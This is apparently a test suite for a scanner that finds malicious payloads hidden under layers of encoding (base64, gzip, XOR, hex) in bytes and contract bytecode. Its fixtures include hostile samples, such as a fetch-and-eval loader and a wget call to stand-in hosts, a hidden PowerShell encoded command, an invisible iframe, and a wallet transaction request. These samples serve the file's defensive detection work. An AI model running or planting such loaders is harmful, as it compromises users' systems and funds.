"""What bytes carry, below layers of encoding, within limits."""

import base64
import gzip
import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from diptych.audit.payloads import Limits, constants, inspect_bytes, inspect_pieces
from diptych.audit.payloads.bytecode import from_hex
from diptych.audit.payloads.content import is_opaque
from diptych.audit.payloads.keys import unmasked
from diptych.audit.payloads.literals import literals, together

SCRIPT = b"fetch('https://cargo.invalid/a').then(r=>r.text()).then(t=>eval(t))"
COMMAND = b"powershell -w hidden -enc ZQBjAGgAbwA="


def masked(data: bytes, key: bytes) -> bytes:
    return bytes(each ^ key[at % len(key)] for at, each in enumerate(data))


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (SCRIPT, "script"),
        (b"<script src=https://cargo.invalid/a.js></script>", "script"),
        (b"window['\\x65\\x76\\x61\\x6c'](window['\\x61\\x74\\x6f\\x62']('aW5lcnQ='))", "script"),
        (b"new Function('return this')()['ev'+'al'](unescape('%69%6e'))", "script"),
        (b"<iframe style=display:none src=https://cargo.invalid/f></iframe>", "script"),
        (b"ethereum.request({method:'eth_sendTransaction',params:[{}]})", "script"),
        (b"s=document.createElement('script');s.src=atob(u);b.append(s)", "script"),
        (COMMAND, "command"),
        (b'CreateObject("WScript.Shell").Run "x"', "command"),
        (b"#!/bin/sh\nwget http://cargo.invalid/x", "command"),
        (b"\x7fELF\x02\x01\x01\x00" + bytes(40), "program"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(40), "program"),
        (b"198.51.100.7:4444", "address"),
        (b"tcp://cargo.invalid:99,tcp://spare.invalid:99", "address"),
    ],
)
def test_content_is_recognised(data: bytes, kind: str) -> None:
    found = inspect_bytes(data)
    assert [(each.kind, each.sure) for each in found[:1]] == [(kind, True)]


@pytest.mark.parametrize(
    "data",
    [
        b"eval of the script failed, see https://docs.example.org/errors/3",
        b"Only the function of the shell may fetch or exec this (see cmd)",
        b'{"name":"Item","image":"https://example.org/1.png"}',
        b"ipfs://QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWKPZGS/1",
        b"<svg xmlns='http://www.w3.org/2000/svg'><rect width='9'/></svg>",
        b"<html><canvas></canvas><script>setTimeout('d()',9);atob('aW5lcnQ=')</script></html>",
        b"const r=await Functions.makeHttpRequest({url:`https://api.example.org`});return r.data",
        b"s=document.createElement('script');s.innerHTML=gunzip(atob(e.src.split(',')[1]))",
        b"<!doctype html><body><script src='https://cdn.example/p5.min.js'></script></body>",
        b"<script>document.body.style.background='#'+(Math.random()*9e6|0)</script>",
        b"<iframe src=https://video.example/embed/1 width=400></iframe>",
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
        b"v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC7",
        b"\x19Ethereum Signed Message:\n32",
        bytes(range(256)),
        bytes.fromhex("608060405234801561001057600080fd5b50"),
    ],
)
def test_what_looks_alike_is_passed_over(data: bytes) -> None:
    assert not any(each.sure for each in inspect_bytes(data))


@pytest.mark.parametrize(
    ("hidden", "layers"),
    [
        (base64.b64encode(SCRIPT), ("base64",)),
        (SCRIPT.hex().encode(), ("hex",)),
        (SCRIPT[::-1], ("reversed",)),
        (gzip.compress(SCRIPT, mtime=0), ("gzip",)),
        (base64.b64encode(gzip.compress(SCRIPT, mtime=0)), ("base64", "gzip")),
        (SCRIPT.decode().encode("utf-16-le"), ("utf-16",)),
        (",".join(map(str, SCRIPT)).encode(), ("numbers",)),
        (masked(SCRIPT, b"\xa7"), ("xor",)),
        (bytes((each + 77) % 256 for each in SCRIPT), ("shift",)),
        (masked(SCRIPT, b"\x11\xee\x5c"), ("xor",)),
        (base64.b64encode(masked(SCRIPT, b"\x93\x21")), ("base64", "xor")),
    ],
)
def test_layers_are_taken_off(hidden: bytes, layers: tuple[str, ...]) -> None:
    found = inspect_bytes(hidden)
    assert [(each.kind, each.layers) for each in found[:1]] == [("script", layers)]


def test_the_place_is_that_of_the_outermost_layer() -> None:
    found = inspect_bytes(b"\x00\x01\xff" * 5 + base64.b64encode(SCRIPT))
    assert found[0].offset == 15
    assert "eval" in found[0].excerpt or "fetch" in found[0].excerpt


def test_limits_hold() -> None:
    deep = SCRIPT
    for _ in range(4):
        deep = base64.b64encode(deep)
    assert inspect_bytes(deep)
    assert not inspect_bytes(deep, Limits(max_depth=3))
    assert not inspect_bytes(b" " * 200 + COMMAND, Limits(max_bytes=200))
    bomb = gzip.compress(bytes(50_000_000) + SCRIPT, mtime=0)
    started_s = time.perf_counter()
    assert not inspect_bytes(bomb)
    assert time.perf_counter() - started_s < 2


@pytest.mark.parametrize(
    "data",
    [
        b"A" * 300_000,
        b"ab" * 150_000,
        b"0x" * 100_000,
        b"1," * 100_000,
        b"%41" * 90_000,
        b"(" * 200_000,
    ],
)
def test_long_runs_take_no_long_time(data: bytes) -> None:
    started_s = time.perf_counter()
    inspect_bytes(data)
    assert time.perf_counter() - started_s < 3


def test_random_bytes_are_no_payload() -> None:
    rng = random.Random(7)
    for _ in range(100):
        data = rng.randbytes(rng.randint(8, 2000))
        assert not any(each.sure for each in inspect_bytes(data))


@settings(max_examples=40, deadline=None)
@given(st.binary(min_size=1, max_size=4).filter(any))
def test_any_short_key_comes_off(key: bytes) -> None:
    assert SCRIPT in set(unmasked(masked(SCRIPT, key)))


def test_bytecode_gives_pushed_words_and_data_behind_code() -> None:
    word = SCRIPT[:32]
    pushed = b"\x60\x80\x7f" + word + b"\x60\x20\x52\x7f" + SCRIPT[32:64] + b"\x62" + SCRIPT[64:]
    assert any(SCRIPT[:60] in data for _, data in constants(pushed))
    behind = b"\x60\x80\x60\x40\x52\x00\xfe" + SCRIPT
    assert (7, SCRIPT) in set(constants(behind))
    assert inspect_pieces([data for _, data in constants(behind)])[0].kind == "script"


def test_hex_is_read_with_and_without_prefix() -> None:
    assert from_hex(b"0x6080\n") == from_hex(b" 6080") == b"\x60\x80"
    assert from_hex(b"0x608") is None
    assert from_hex(b"contract C {}") is None


def test_calldata_of_an_update_is_read_through_its_padding() -> None:
    body = SCRIPT.ljust(96, b"\0")
    data = bytes.fromhex("4ed3885e") + (32).to_bytes(32, "big") + len(SCRIPT).to_bytes(32, "big")
    assert inspect_bytes(data + body)[0].kind == "script"


def test_literals_are_told_with_what_they_are_given_to() -> None:
    text = b"""contract C { string a = "x\\x41\\"y"; // "not this"
        function f() { m[2] = hex"0102_0304"; m[1] = 'part'; } }"""
    at = text.index(b"//")
    found = list(literals(text, [(at, text.index(b"\n"))]))
    assert [(each.value, each.given_to, each.at) for each in found] == [
        (b'xA"y', b"a", None),
        (b"\x01\x02\x03\x04", b"m", 2),
        (b"part", b"m", 1),
    ]
    assert b"part\x01\x02\x03\x04" in {whole for _, whole in together(found)}


def test_opaque_is_what_no_known_format_explains() -> None:
    noise = bytes((at * at * 7 + at * 31 + 5) % 251 for at in range(1, 120))
    assert is_opaque(noise)
    assert is_opaque(base64.b64encode(noise))
    assert not is_opaque(base64.b64encode(b"plain words, many of them, in one line of text"))
    assert not is_opaque(b"\x89PNG\r\n\x1a\n" + noise)
    assert not is_opaque(bytes(200))
    assert not is_opaque(b"the quick brown fox jumps over the lazy dog and away")
